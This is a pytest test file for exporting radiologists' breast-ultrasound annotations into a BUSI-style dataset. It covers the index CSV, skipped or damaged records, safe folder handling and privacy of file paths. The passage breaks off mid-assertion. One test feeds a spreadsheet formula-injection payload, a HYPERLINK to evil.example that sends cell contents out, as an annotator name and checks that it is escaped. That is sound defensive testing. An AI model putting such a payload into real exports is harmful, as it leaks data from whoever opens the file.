"""Saved annotations exported in BUSI's layout, read back by the models' own loader."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

import vectorizer
from annotation_client import AnnotationStore, _export, build_record
from annotation_client._export import INDEX_COLUMNS, STAGING_MARK, export_busi
from annotation_client._measurements import summarize
from annotation_client.export import main
from models.data import load_samples, read_image, read_mask


def _image(path, pixels, fmt="PNG"):
    path.parent.mkdir(parents=True, exist_ok=True)
    out = io.BytesIO()
    Image.fromarray(pixels).save(out, format=fmt)
    path.write_bytes(out.getvalue())
    return path.read_bytes()


def _save(store, data, *, label, mask, worklist_path, annotator="Dr Ada", day=1,
          descriptors=None, note="", based_on=None, spacing=None):
    sha = hashlib.sha256(data).hexdigest()
    height, width = mask.shape
    spaced = {} if spacing is None else {"pixel_spacing_mm": list(spacing)}
    record = build_record(
        image={"sha256": sha, "name": "x", "width": width, "height": height,
               "worklist_path": worklist_path, **spaced},
        annotator=annotator,
        final_mask=mask,
        final_label=label,
        descriptors=descriptors,
        note=note,
        saved_at=dt.datetime(2026, 12, day, 9, 0, tzinfo=dt.UTC),
        measurements=summarize(mask, spacing),  # as the page measures it
        based_on=based_on,
    )  # fmt: skip
    store.save(sha, svg=vectorizer.mask_to_svg(mask), mask_png=vectorizer.mask_to_png(mask),
               record=record)
    return sha


@pytest.fixture
def saved(tmp_path):
    """A worklist of four images and their saved annotations, one of each kind."""
    worklist, store = tmp_path / "worklist", AnnotationStore(tmp_path / "data")
    grey = np.arange(80, dtype=np.uint8).reshape(8, 10) * 3
    lesion = np.zeros((8, 10), bool)  # the client opens nothing under 8 pixels a side
    lesion[2:6, 2:8] = True
    a = _image(worklist / "study2" / "a.png", grey)
    b = _image(worklist / "study1" / "b.png", 255 - grey)
    c = _image(worklist / "study1" / "c.jpg", grey // 4 + 96, "JPEG")  # not blank: opened
    d = _image(worklist / "d.png", grey // 2)
    # a: malignant, revised twice (the latest, v2, is exported with its own outline).
    _save(store, a, label="benign", mask=np.zeros((8, 10), bool), worklist_path="study2/a.png")
    sha_a = _save(store, a, label="malignant", mask=lesion, worklist_path="study2/a.png", day=2)
    moved = np.roll(lesion, 2, axis=1)
    sha_b = _save(store, b, label="benign", mask=moved, worklist_path="study1/b.png")
    sha_c = _save(store, c, label="normal", mask=np.zeros((8, 10), bool),
                  worklist_path="study1/c.jpg")  # fmt: skip
    sha_d = _save(store, d, label=None, mask=lesion, worklist_path="d.png")  # no final label
    upload = _save(store, b"uploaded bytes", label="benign", mask=lesion, worklist_path=None)
    return {
        "worklist": worklist, "data": tmp_path / "data", "lesion": lesion, "grey": grey,
        "sha": {"a": sha_a, "b": sha_b, "c": sha_c, "d": sha_d, "upload": upload},
    }  # fmt: skip


def test_the_export_is_a_busi_folder_the_models_read(saved, tmp_path):
    out = tmp_path / "out"
    report = export_busi(saved["data"], saved["worklist"], out)
    assert report.exported == {"normal": 1, "benign": 1, "malignant": 1}
    assert report.total == 3
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert reasons == {
        saved["sha"]["d"]: "no final label (v001 by Dr Ada)",
        saved["sha"]["upload"]: ("uploaded, not opened from the worklist: the image was not "
                                 "kept, and no worklist file holds it"),
    }
    samples = {(s.class_name, s.name): s for s in load_samples(out)}
    assert set(samples) == {("benign", "benign (1)"), ("malignant", "malignant (1)"),
                            ("normal", "normal (1)")}  # fmt: skip
    malignant = samples[("malignant", "malignant (1)")]
    assert np.array_equal(read_image(malignant.image_path), saved["grey"])
    assert np.array_equal(read_mask(malignant.mask_paths, (8, 10)), saved["lesion"])
    benign = samples[("benign", "benign (1)")]
    assert np.array_equal(read_image(benign.image_path), 255 - saved["grey"])
    moved = np.roll(saved["lesion"], 2, axis=1)
    assert np.array_equal(read_mask(benign.mask_paths, (8, 10)), moved)
    normal = samples[("normal", "normal (1)")]
    assert not read_mask(normal.mask_paths, (8, 10)).any()
    assert read_image(normal.image_path).shape == (8, 10)  # the JPEG, now a PNG
    # Each image is its own duplicate group, so a split never divides one.
    assert benign.group == saved["sha"]["b"][:16]


def test_the_index_says_where_each_image_came_from(saved, tmp_path):
    out = tmp_path / "out"
    export_busi(saved["data"], saved["worklist"], out, with_paths=True)
    with open(out / "index.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == INDEX_COLUMNS
    # Numbered in worklist-path order, per class.
    assert [(r["name"], r["worklist_path"], r["version"]) for r in rows] == [
        ("benign (1)", "study1/b.png", "1"),
        ("normal (1)", "study1/c.jpg", "1"),
        ("malignant (1)", "study2/a.png", "2"),
    ]
    assert rows[2]["sha256"] == saved["sha"]["a"]
    assert rows[2]["saved_at"] == "2026-12-02T09:00:00Z"
    assert rows[2]["annotator"] == "Dr Ada"


def test_worklist_paths_are_left_out_unless_asked_for(saved, tmp_path, capsys, monkeypatch):
    # File names often carry the patient's name; a data set made to be shared must not.
    (saved["worklist"] / "study1" / "b.png").rename(saved["worklist"] / "DOE_JANE_b.png")
    record_path = saved["data"] / saved["sha"]["b"] / "v001.json"
    record_path.write_text(record_path.read_text().replace("study1/b.png", "DOE_JANE_b.png"))
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
    assert report.exported == {"normal": 1, "benign": 1, "malignant": 1}
    written = (tmp_path / "out" / "index.csv").read_text(encoding="utf-8")
    assert "DOE_JANE" not in written and "study" not in written
    with open(tmp_path / "out" / "index.csv", newline="", encoding="utf-8") as handle:
        assert {row["worklist_path"] for row in csv.DictReader(handle)} == {""}
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    assert main(["--out", str(tmp_path / "kept"), "--with-paths"]) == 0
    assert "DOE_JANE_b.png" in (tmp_path / "kept" / "index.csv").read_text(encoding="utf-8")


def test_an_image_changed_or_gone_since_it_was_saved_is_skipped(saved, tmp_path):
    (saved["worklist"] / "study1" / "b.png").write_bytes(b"another file now")
    (saved["worklist"] / "study1" / "c.jpg").unlink()
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
    assert report.exported == {"normal": 0, "benign": 0, "malignant": 1}
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    # Neither by its path nor by its hash: the line says both were tried.
    assert reasons[saved["sha"]["b"]] == (
        "from the worklist (study1/b.png), which holds other bytes, and no worklist file "
        "holds the annotated image (by path or by its SHA-256)")
    assert reasons[saved["sha"]["c"]] == (
        "from the worklist (study1/c.jpg), which is gone, and no worklist file holds the "
        "annotated image (by path or by its SHA-256)")


def test_a_renamed_or_replaced_image_is_found_by_its_hash(saved, tmp_path, capsys,
                                                          monkeypatch):
    """The bytes name the saved versions, not the path: a file renamed since (or moved
    to another folder) is read from where it is now, and so is one whose old name now
    holds another file (a re-export) when its bytes are elsewhere."""
    worklist = saved["worklist"]
    (worklist / "study1" / "c.jpg").rename(worklist / "renamed c.jpg")
    b = worklist / "study1" / "b.png"
    b.rename(worklist / "elsewhere.png")
    b.write_bytes(b"a re-export under the old name")
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(worklist))
    assert main(["--out", str(tmp_path / "out")]) == 0
    printed = capsys.readouterr().out
    assert "exported 3 image(s)" in printed
    assert printed.count("skipped ") == 2  # only the unlabelled image and the upload
    samples = {(s.class_name, s.name): s for s in load_samples(tmp_path / "out")}
    benign = samples[("benign", "benign (1)")]
    assert np.array_equal(read_image(benign.image_path), 255 - saved["grey"])
    assert read_image(samples[("normal", "normal (1)")].image_path).shape == (8, 10)
    # The index gives the paths the images were read from, not those they had.
    export_busi(saved["data"], worklist, tmp_path / "paths", with_paths=True)
    with (tmp_path / "paths" / "index.csv").open(newline="", encoding="utf-8") as f:
        paths = {row["sha256"]: row["worklist_path"] for row in csv.DictReader(f)}
    assert paths[saved["sha"]["b"]] == "elsewhere.png"
    assert paths[saved["sha"]["c"]] == "renamed c.jpg"


def test_without_a_worklist_nothing_can_be_read_back(saved, tmp_path):
    report = export_busi(saved["data"], None, tmp_path / "out")
    assert report.total == 0
    assert list((tmp_path / "out").iterdir()) == []  # the folder said, empty
    assert sum("no worklist folder is set" in why for _, why in report.skipped) == 3


def test_a_mask_of_another_size_or_a_broken_record_is_skipped_alone(saved, tmp_path):
    folder = saved["data"] / saved["sha"]["b"]
    (folder / "v001_mask.png").unlink()
    (folder / "v001_mask.png").write_bytes(vectorizer.mask_to_png(np.ones((2, 2), bool)))
    (saved["data"] / saved["sha"]["c"] / "v001.json").write_text("[]")
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
    assert report.exported == {"normal": 0, "benign": 0, "malignant": 1}
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert reasons[saved["sha"]["b"]] == "its mask is (2, 2), the image (8, 10)"
    assert reasons[saved["sha"]["c"]] == (
        "the record of its latest version, v001.json, is damaged: the record is not a JSON "
        "object")


def test_a_truncated_record_is_named_by_its_version(saved, tmp_path):
    record = saved["data"] / saved["sha"]["a"] / "v002.json"
    record.write_bytes(record.read_bytes()[:40])
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert reasons[saved["sha"]["a"]].startswith(
        "the record of its latest version, v002.json, is damaged: Unterminated string")


def test_an_export_never_overwrites(saved, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "keep.txt").write_text("mine")
    with pytest.raises(ValueError, match="not an empty folder"):
        export_busi(saved["data"], saved["worklist"], out)
    assert [p.name for p in out.iterdir()] == ["keep.txt"]
    with pytest.raises(ValueError, match="data_dir"):
        export_busi(tmp_path / "nowhere", saved["worklist"], tmp_path / "new")
    with pytest.raises(TypeError, match="out"):
        export_busi(saved["data"], saved["worklist"], 3)


def test_folders_that_overlap_are_refused_before_anything_is_written(saved, tmp_path):
    data, worklist = saved["data"], saved["worklist"]
    with pytest.raises(ValueError, match="out: .* is in the worklist"):
        export_busi(data, worklist, worklist / "export")
    with pytest.raises(ValueError, match="out: .* is in the data folder"):
        export_busi(data, worklist, data / "export")
    inside = data / "scans"
    inside.mkdir()
    with pytest.raises(ValueError, match="worklist_dir: .* is in the data folder"):
        export_busi(data, inside, tmp_path / "out")
    assert not (worklist / "export").exists() and not (data / "export").exists()
    assert not (tmp_path / "out").exists()


def test_a_worklist_file_in_the_data_folder_is_not_read(saved, tmp_path_factory):
    # The data folder may lie inside the worklist (the page then skips it). A record
    # naming a file there, here a saved mask saved as an image of its own, is refused
    # as the page refuses it, though its bytes match.
    store = AnnotationStore(saved["data"])
    relative = f"data/{saved['sha']['a']}/v001_mask.png"
    inner = (saved["data"].parent / relative).read_bytes()
    sha = _save(store, inner, label="benign", mask=np.zeros((8, 10), bool),
                worklist_path=relative)
    report = export_busi(saved["data"], saved["data"].parent,
                         tmp_path_factory.mktemp("elsewhere") / "out")
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert "is in the data folder" in reasons[sha]


def test_the_command_line(saved, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("SONOTRACE_DATA_DIR", str(saved["data"]))
    monkeypatch.setenv("SONOTRACE_WORKLIST_DIR", str(saved["worklist"]))
    assert main(["--out", str(tmp_path / "out")]) == 0
    printed = capsys.readouterr().out
    assert "exported 3 image(s)" in printed and "1 normal, 1 benign, 1 malignant" in printed
    assert printed.count("skipped ") == 2
    assert main(["--out", str(tmp_path / "out")]) == 2  # not empty any more
    assert "not an empty folder" in capsys.readouterr().err
    other = tmp_path / "other"
    assert main(["--out", str(other), "--worklist-dir", str(saved["worklist"])]) == 0
    assert len(load_samples(other)) == 3


def test_a_mask_that_disagrees_with_its_outline_is_not_exported(saved, tmp_path):
    # A mask restored from another backup, or edited by a tool: the record and the
    # outline the Annotate page loads still say the lesion, the mask says nothing.
    folder = saved["data"] / saved["sha"]["a"]
    (folder / "v002_mask.png").write_bytes(vectorizer.mask_to_png(np.zeros((8, 10), bool)))
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
    assert report.exported == {"normal": 1, "benign": 1, "malignant": 0}
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert reasons[saved["sha"]["a"]] == (
        "v002_mask.png (0 px) and the outline of v002.svg (24 px) differ in 24 pixels: "
        "which one is the reading cannot be told")


def test_a_missing_mask_is_made_again_from_the_outline(saved, tmp_path):
    (saved["data"] / saved["sha"]["a"] / "v002_mask.png").unlink()
    out = tmp_path / "out"
    assert export_busi(saved["data"], saved["worklist"], out).exported["malignant"] == 1
    assert np.array_equal(read_mask([out / "malignant" / "malignant (1)_mask.png"], (8, 10)),
                          saved["lesion"])
    # Neither file: left out, named.
    (saved["data"] / saved["sha"]["a"] / "v002.svg").unlink()
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "again")
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert reasons[saved["sha"]["a"]] == "neither v002_mask.png nor v002.svg is there"


def test_a_write_that_fails_leaves_nothing_behind(saved, tmp_path, monkeypatch):
    from annotation_client import _export

    out = tmp_path / "out"
    out.mkdir()
    real = _export._png
    into = {"folder": out}

    def png(pixels):
        # Another process makes a folder of the data set's name while the export runs.
        (into["folder"] / "normal").mkdir(exist_ok=True)
        (into["folder"] / "normal" / "theirs.txt").write_text("x")
        return real(pixels)

    monkeypatch.setattr(_export, "_png", png)
    with pytest.raises(FileExistsError):
        export_busi(saved["data"], saved["worklist"], out)
    # Its folder left as it found it; nothing of the export (moved or not) is left.
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*")) == [
        "normal", "normal/theirs.txt"]
    # A folder it made, which another process wrote into meanwhile, keeps only what
    # that process wrote: it is not the failed export's to remove.
    into["folder"] = tmp_path / "new" / "out2"
    with pytest.raises(FileExistsError):
        export_busi(saved["data"], saved["worklist"], into["folder"])
    assert sorted(p.relative_to(into["folder"]).as_posix()
                  for p in into["folder"].rglob("*")) == ["normal", "normal/theirs.txt"]
    # A folder it made that nothing else wrote into is removed again.
    def full_disk(pixels):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(_export, "_png", full_disk)
    with pytest.raises(OSError, match="No space left"):
        export_busi(saved["data"], saved["worklist"], tmp_path / "new" / "out3")
    assert not (tmp_path / "new" / "out3").exists()


def test_a_failed_export_keeps_another_that_finished_in_the_same_new_folder(
        saved, tmp_path, monkeypatch):
    # Two exports into one new folder: the second made it, the first finished in it
    # (exit 0, "exported"), then the second failed and removed the whole folder, the
    # first's data set with it (audit helper-503, 1).
    from annotation_client import _export

    out = tmp_path / "shared" / "busi"
    real = _export.tempfile.mkdtemp
    other = {}

    def mkdtemp(**kwargs):
        if not other:  # the second export, between making the folder and staging in it
            other["report"] = True
            other["report"] = export_busi(saved["data"], saved["worklist"], out)
        return real(**kwargs)

    monkeypatch.setattr(_export.tempfile, "mkdtemp", mkdtemp)
    with pytest.raises(FileExistsError):
        export_busi(saved["data"], saved["worklist"], out)
    assert other["report"].total == 3
    assert sorted(p.name for p in out.iterdir()) == ["benign", "index.csv", "malignant",
                                                     "normal"]
    assert len(load_samples(out)) == 3


@pytest.mark.parametrize("kind", ["empty folder", "link to one", "the current folder"])
def test_an_existing_empty_folder_is_exported_into_as_it_is(saved, tmp_path, monkeypatch,
                                                            kind):
    # A mounted stick or share, a link, "." : the folder is used, not replaced.
    target = tmp_path / "stick"
    target.mkdir()
    target.chmod(0o775)
    out = target
    if kind == "link to one":
        out = tmp_path / "link"
        out.symlink_to(target)
    elif kind == "the current folder":
        monkeypatch.chdir(target)
        out = Path(".")
    assert export_busi(saved["data"], saved["worklist"], out).total == 3
    assert sorted(p.name for p in target.iterdir()) == [
        "benign", "index.csv", "malignant", "normal"]
    assert oct(target.stat().st_mode & 0o777) == "0o775"
    assert len(load_samples(target)) == 3


#: A child export whose writing of the second image kills it outright, as SIGKILL or the
#: kernel's OOM killer does (``kill``), fails as on a full disk (``full``), or waits until
#: ``OUT/../go`` exists (``wait``); or that is killed so once it has moved the first entry
#: of its finished data set up into ``OUT`` (``kill-moving``).
_CHILD_EXPORT = """
import os, signal, sys, time
from pathlib import Path
from annotation_client import _export
from annotation_client.export import main
how, out, data, worklist = sys.argv[1:]
real, calls = _export._png, []
def png(pixels):
    calls.append(1)
    if len(calls) == 2 and how == "kill":
        os.kill(os.getpid(), signal.SIGKILL)
    if len(calls) == 2 and how == "full":
        raise OSError(28, "No space left on device")
    while len(calls) == 2 and how == "wait" and not (Path(out).parent / "go").exists():
        time.sleep(0.05)
    return real(pixels)
_export._png = png
rename = Path.rename
def moved_once_then_killed(self, target):
    done = rename(self, target)
    if how == "kill-moving" and self.parent.name.startswith(".partial-"):
        os.kill(os.getpid(), signal.SIGKILL)  # the first entry moved up, not the others
    return done
Path.rename = moved_once_then_killed
sys.exit(main(["--out", out, "--data-dir", data, "--worklist-dir", worklist]))
"""


def _child_export(how, out, saved):
    env = {k: v for k, v in os.environ.items() if not k.startswith("SONOTRACE_")}
    return subprocess.Popen(
        [sys.executable, "-c", _CHILD_EXPORT, how, str(out), str(saved["data"]),
         str(saved["worklist"])], cwd=Path(__file__).resolve().parents[2], env=env,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def test_the_staging_folder_of_a_killed_export_is_removed_by_the_next(saved, tmp_path,
                                                                     caplog):
    # Killed mid-write (SIGKILL, out of memory), the export left a hidden .partial-*
    # folder of patient images, and the next run into the same folder was refused as
    # "not an empty folder" though ls showed nothing (audit 701, F6).
    out = tmp_path / "out"
    child = _child_export("kill", out, saved)
    child.communicate(timeout=120)
    assert child.returncode == -9
    (left,) = out.iterdir()  # hidden, holding the first image written
    assert left.name.startswith(".partial-") and list(left.rglob("*.png"))
    assert f"removed {left.name} from {out}: the staging folder of an export that was " \
        "stopped before it finished" in _cleared_by_the_next(saved, out, [left], caplog)


def _cleared_by_the_next(saved, out, left, caplog):
    """What a killed export ``left`` in ``out`` (its staging folder first): refused
    beside a file of the user's, which names only its hidden folder, and all left as
    they are; alone, removed by the next export, which writes its data set. Its log."""
    (out / "notes.txt").write_text("mine")
    with pytest.raises(ValueError, match=f"not an empty folder \\(it holds {left[0].name}, "
                                         "which ls does not show; a .partial-"):
        export_busi(saved["data"], saved["worklist"], out)
    assert all(path.is_dir() for path in left)
    (out / "notes.txt").unlink()
    with caplog.at_level("INFO", logger="annotation_client._export"):
        assert main(["--out", str(out), "--data-dir", str(saved["data"]),
                     "--worklist-dir", str(saved["worklist"])]) == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "benign", "index.csv", "malignant", "normal"]
    assert len(load_samples(out)) == 3
    return caplog.text


@pytest.mark.parametrize("staging_listed", ["first", "last"])
def test_an_export_killed_while_it_moves_its_data_set_up_is_undone_by_the_next(
        saved, tmp_path, caplog, monkeypatch, staging_listed):
    # Killed between moving up one class folder and the next, the export left a class
    # folder in OUT (a half data set a training could be pointed at), which the next
    # export took for the user's: "not an empty folder", nothing the export would remove.
    # Either order of listing: the file system's (a hash of the names on ext4) put the
    # staging folder first in CI, and the folder it had moved up, listed after it, was
    # then taken for the user's.
    real = _export._entries
    monkeypatch.setattr(_export, "_entries", lambda out: sorted(
        real(out), key=lambda e: e.name.startswith(".partial-") == (staging_listed == "last")))
    out = tmp_path / "out"
    child = _child_export("kill-moving", out, saved)
    child.communicate(timeout=120)
    assert child.returncode == -9
    (moved,) = (p for p in out.iterdir() if not p.name.startswith("."))
    (left,) = out.glob(".partial-*")
    assert moved.name in ("benign", "malignant", "normal")
    assert (left / "index.csv").is_file() and not (left / moved.name).exists()
    # What it moved up is the export's, not the user's: only the hidden folder is named.
    assert f"removed {left.name} from {out}: the staging folder of an export that was " \
        f"stopped before it finished, and {moved.name}, which it had moved up" in \
        _cleared_by_the_next(saved, out, [left, moved], caplog)


def test_the_staging_folder_of_a_running_export_is_left_to_it(saved, tmp_path, capsys):
    out = tmp_path / "out"
    child = _child_export("wait", out, saved)
    try:
        for _ in range(1200):  # until it has written its first image into its staging
            if any(out.glob(".partial-*/*/*.png")):
                break
            if child.poll() is not None:
                pytest.fail(child.communicate()[1])
            time.sleep(0.05)
        (staging,) = out.iterdir()
        assert main(["--out", str(out), "--data-dir", str(saved["data"]),
                     "--worklist-dir", str(saved["worklist"])]) == 2
        assert capsys.readouterr().err == (
            f"error: out: {out} is being written by another export (its staging folder "
            f"{staging.name}); nothing was written\n")
        assert staging.is_dir()
    finally:
        (tmp_path / "go").touch()
        child.communicate(timeout=120)
    assert child.returncode == 0  # its export, untouched, finished
    assert len(load_samples(out)) == 3 and not list(out.glob(".*"))


def test_a_refusal_names_what_ls_does_not_show(saved, tmp_path):
    # Hidden entries are not the export's to remove: a .partial-* folder without the
    # mark (an older release's, or the user's), and one whose mark says something else.
    out = tmp_path / "out"
    (out / ".partial-old" / "benign").mkdir(parents=True)
    (out / ".partial-other").mkdir()
    (out / ".partial-other" / STAGING_MARK).write_text("not ours")
    (out / ".DS_Store").write_text("x")
    before = sorted(out.rglob("*"))
    with pytest.raises(ValueError) as refused:
        export_busi(saved["data"], saved["worklist"], out)
    assert str(refused.value) == (
        f"out: {out} exists and is not an empty folder (it holds .DS_Store, .partial-old, "
        ".partial-other, which ls does not show; a .partial-* folder an export stopped "
        "midway left can be removed once no export is running); nothing was written")
    assert sorted(out.rglob("*")) == before
    (out / "keep.txt").write_text("mine")
    (out / ".a").touch()
    with pytest.raises(ValueError, match=r"\(it holds \.DS_Store, \.a, \.partial-old and 1 "
                                         r"more, which ls does not show;"):
        export_busi(saved["data"], saved["worklist"], out)


def test_the_export_holds_one_image_at_a_time(tmp_path):
    # Every exported image's pixels and mask were held until the end: 470 MB for 22
    # images of 3000 x 3000 (audit 701, F6), for the OOM killer to stop the export.
    import tracemalloc

    size = 500
    mask = np.zeros((size, size), bool)
    mask[size // 4:3 * size // 4, size // 3:2 * size // 3] = True
    rng = np.random.default_rng(1)
    peaks = {}
    for count in (2, 10):
        worklist, store = tmp_path / f"w{count}", AnnotationStore(tmp_path / f"d{count}")
        for k in range(count):
            data = _image(worklist / f"{k}.png",
                          rng.integers(0, 256, (size, size), dtype=np.uint8))
            _save(store, data, label="benign", mask=mask, worklist_path=f"{k}.png")
        tracemalloc.start()
        try:
            export_busi(store.root, worklist, tmp_path / f"out{count}")
            peaks[count] = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    # Eight images more add less than one image's pixels to the peak.
    assert peaks[10] - peaks[2] < size * size, peaks


def _command(*args, data=None, cwd=None):
    """``python -m annotation_client.export ARGS`` run as a user runs it: (status, stderr)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("SONOTRACE_")}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[2])
    if data is not None:
        env["SONOTRACE_DATA_DIR"] = str(data)
    done = subprocess.run([sys.executable, "-m", "annotation_client.export", *map(str, args)],
                          env=env, cwd=cwd, capture_output=True, text=True, timeout=120)
    return done.returncode, done.stderr


def test_the_command_line_exits_2_on_what_was_asked_and_1_on_a_failed_run(saved, tmp_path):
    # A folder it cannot write in was exit status 1 after every record had been read, as
    # a full disk is; a refusal of what was asked is 2, as argparse's of a bad flag.
    worklist = saved["worklist"]
    blocker = tmp_path / "a file"
    blocker.write_text("not a folder")
    missing = tmp_path / "no such folder"
    refused = {
        ("--out", blocker / "out", "--worklist-dir", worklist):
            f"error: out: {blocker / 'out'} cannot be written in (Not a directory); "
            "nothing was written\n",
        ("--out", tmp_path / "o2", "--worklist-dir", missing):
            f"error: worklist_dir: {missing} is not a folder\n",
        ("--out", tmp_path / "o2", "--worklist-dir", worklist, "--data-dir", missing):
            f"error: data_dir: {missing} is not a folder\n",
    }
    for args, said in refused.items():
        assert _command(*args, data=saved["data"]) == (2, said)
    status, err = _command("--out", tmp_path / "o2", "--seg", data=saved["data"])
    assert status == 2 and err.endswith("error: unrecognized arguments: --seg\n")
    assert not (tmp_path / "o2").exists()
    # A disk that fills up while the images are written: the run failed, in one line.
    child = _child_export("full", tmp_path / "o3", saved)
    _out, err = child.communicate(timeout=120)
    assert child.returncode == 1
    assert err == "error: the export could not be written: No space left on device; " \
        "nothing was written\n"
    assert not (tmp_path / "o3").exists()


def test_an_upload_whose_copy_was_pruned_is_read_from_the_worklist_file_holding_it(
        saved, tmp_path):
    # The upload's bytes are also a worklist file's (uploaded by hand, then pruned).
    data = (saved["worklist"] / "study1" / "b.png").read_bytes()
    store = AnnotationStore(saved["data"])
    sha = hashlib.sha256(data).hexdigest()
    record = build_record(
        image={"sha256": sha, "name": "b upload.png", "width": 10, "height": 8},
        annotator="Dr Ada", final_mask=saved["lesion"], final_label="malignant",
    )
    store.save(sha, svg=vectorizer.mask_to_svg(saved["lesion"]),
               mask_png=vectorizer.mask_to_png(saved["lesion"]), record=record)
    out = tmp_path / "out"
    report = export_busi(saved["data"], saved["worklist"], out)
    assert report.exported["malignant"] == 2
    assert sha not in {where.rsplit("/", 1)[-1] for where, _ in report.skipped}


def test_models_evaluate_scores_an_export_as_it_scores_the_originals(busi_dir, tmp_path):
    """Radiologists' saves of BUSI images, exported, score like BUSI itself."""
    import json
    import shutil

    from models.evaluate import main as evaluate

    names = ["benign (4)", "malignant (3)", "normal (1)"]
    worklist, store = tmp_path / "worklist", AnnotationStore(tmp_path / "data")
    originals = tmp_path / "originals"
    for name in names:
        label = name.split(" ")[0]
        source = busi_dir / label / f"{name}.png"
        (worklist / label).mkdir(parents=True, exist_ok=True)
        (originals / label).mkdir(parents=True, exist_ok=True)
        shutil.copy(source, worklist / label / source.name)
        for mask_file in sorted((busi_dir / label).glob(f"{name}_mask*.png")):
            shutil.copy(mask_file, originals / label / mask_file.name)
        shutil.copy(source, originals / label / source.name)
        image = read_image(source)
        truth = read_mask(sorted((busi_dir / label).glob(f"{name}_mask*.png")), image.shape)
        _save(store, source.read_bytes(), label=label, mask=truth,
              worklist_path=f"{label}/{source.name}")  # fmt: skip
    out = tmp_path / "out"
    assert export_busi(tmp_path / "data", worklist, out).total == 3
    scores = {}
    for folder in (out, originals):
        target = tmp_path / f"{folder.name}.json"
        assert evaluate(["--data", str(folder), "--json", str(target)]) == 0
        scores[folder.name] = json.loads(target.read_text())
    exported, original = scores["out"], scores["originals"]
    assert exported["n_images"] == original["n_images"] == 3
    assert exported["segmentation"] == original["segmentation"]
    assert exported["classification"]["accuracy"] == original["classification"]["accuracy"]


def test_an_upload_whose_copy_was_kept_is_exported_from_it(saved, tmp_path):
    store = AnnotationStore(saved["data"])
    pixels = np.arange(80, dtype=np.uint8).reshape(8, 10)[::-1].copy()
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="PNG")
    data = buffer.getvalue()
    sha = hashlib.sha256(data).hexdigest()
    record = build_record(
        image={"sha256": sha, "name": "kept.png", "width": 10, "height": 8},
        annotator="Dr Ada", final_mask=saved["lesion"], final_label="malignant",
    )
    store.save(sha, svg=vectorizer.mask_to_svg(saved["lesion"]),
               mask_png=vectorizer.mask_to_png(saved["lesion"]),
               record=record, source=data, source_name="kept.png")
    out = tmp_path / "out"
    report = export_busi(saved["data"], saved["worklist"], out)
    assert report.exported == {"normal": 1, "benign": 1, "malignant": 2}
    with open(out / "index.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    # After the worklist's images, with no worklist path.
    assert (rows[-1]["name"], rows[-1]["sha256"], rows[-1]["worklist_path"]) == (
        "malignant (2)", sha, "")
    assert np.array_equal(read_image(out / "malignant" / "malignant (2).png"), pixels)

    # A damaged copy is left out and listed, like a changed worklist file.
    store.source_path(sha).write_bytes(data[:-3])
    report = export_busi(saved["data"], saved["worklist"], tmp_path / "again")
    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
    assert "damaged" in reasons[sha]


def test_a_name_a_spreadsheet_would_run_is_written_as_text(saved, tmp_path):
    worklist = saved["worklist"]
    data = (worklist / "d.png").read_bytes()
    store = AnnotationStore(saved["data"])
    _save(store, data, label="benign", mask=saved["lesion"], worklist_path="d.png",
          annotator='=HYPERLINK("http://evil.example/?"&A2,"open")', day=3)
    out = tmp_path / "out"
    export_busi(saved["data"], worklist, out, with_paths=True)
    with open(out / "index.csv", newline="", encoding="utf-8") as handle:
        rows = {r["worklist_path"]: r for r in csv.DictReader(handle)}
    assert rows["d.png"]["annotator"] == '\'=HYPERLINK("http://evil.example/?"&A2,"open")'
    assert rows["study1/b.png"]["annotator"] == "Dr Ada"


def test_the_index_gives_each_images_bi_rads_reading_and_no_note(saved, tmp_path):
    worklist, store = saved["worklist"], AnnotationStore(saved["data"])
    # b revised with a BI-RADS reading and a note: v2, the version exported.
    _save(store, (worklist / "study1" / "b.png").read_bytes(), label="benign",
          mask=saved["lesion"], worklist_path="study1/b.png", day=3,
          descriptors={"assessment": "4A", "shape": "oval", "posterior_features": "none",
                       "margin": ["microlobulated", "angular"]},
          note="Jane Doe, 1961: compare with the 2023 study.")  # fmt: skip
    out = tmp_path / "out"
    assert export_busi(saved["data"], worklist, out, with_paths=True).total == 3
    # The BI-RADS columns come after the others, which keep their places.
    assert INDEX_COLUMNS == (
        "class", "name", "duplicate_group", "masks", "sha256", "version", "annotator",
        "worklist_path", "saved_at", "birads_assessment", "birads_shape",
        "birads_orientation", "birads_margin", "birads_echo_pattern",
        "birads_posterior_features", "area_px", "area_mm2", "long_axis_px", "long_axis_mm",
        "perpendicular_axis_px", "perpendicular_axis_mm", "pixel_spacing_row_mm",
